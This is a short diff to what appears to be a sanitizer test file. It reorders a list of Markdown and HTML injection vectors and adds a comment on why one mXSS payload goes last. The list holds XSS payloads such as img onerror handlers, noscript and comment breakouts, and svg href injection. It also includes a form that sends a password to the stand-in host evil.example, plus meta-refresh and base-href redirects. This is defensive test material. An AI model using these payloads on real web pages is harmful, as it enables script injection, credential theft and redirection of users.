@@ -40,7 +40,6 @@ MARKDOWN_VECTORS = [
     f'<form action="https://evil.example/{MARKER}"><input type="password" name="p"><button>send</button></form>',
     f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARKER}">',
     '<base href="https://evil.example/">',
-    f"<math><mtext><table><mglyph><style><img src=x onerror={MARKER}(14)>",
     f'<noscript><p title="</noscript><img src=x onerror={MARKER}(15)>">',
     f"<!--><img src=x onerror={MARKER}(16)>-->",
     f"<img src=x onerror=&#108;sxss(17)>",
@@ -50,6 +49,8 @@ MARKDOWN_VECTORS = [
     f'<a href="https://evil.example/{MARKER}" target="_blank">external</a> and [md link](https://evil.example/{MARKER}2)',
     f"<object type=\"text/html\">{MARKER}</object><embed type=\"text/html\">",
     f'<svg><a><animate attributeName="href" values="https://evil.example/{MARKER}" /><text>svg</text></a></svg>',
+    # Last: its unclosed <style> swallows the rest of the block, as in a browser.
+    f"<math><mtext><table><mglyph><style><img src=x onerror={MARKER}(14)>",
 ]
 MARKDOWN_BODY = "\n\n".join(MARKDOWN_VECTORS)
 
